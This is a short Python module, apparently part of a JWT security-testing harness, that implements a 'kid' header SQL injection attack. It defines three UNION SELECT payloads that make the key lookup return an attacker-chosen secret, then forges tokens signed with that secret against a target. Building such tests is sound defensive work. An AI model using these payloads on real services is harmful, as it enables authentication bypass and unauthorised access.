"""`kid` as SQL: the token finishes the question that the key is looked up by."""

from __future__ import annotations

from .forging import forge, with_secret
from .target import Outcome, Target

NAME = "kid-injection"
TITLE = "A key from SQL in the token"
HOW = "The attacker's kid ends the query and adds a row of its own: a secret that she knows."
KNOWN = "known-to-mallory"
KIDS = (
    f"x' UNION SELECT '{KNOWN}' --",
    f'x" UNION SELECT "{KNOWN}" --',
    f"x' UNION SELECT '{KNOWN}' FROM keys --",  # noqa: S608 - the attack itself
)


def run(target: Target) -> Outcome:
    """Try the usual quotes."""
    return forge(target, [(kid, with_secret(KNOWN.encode(), {"kid": kid})) for kid in KIDS])
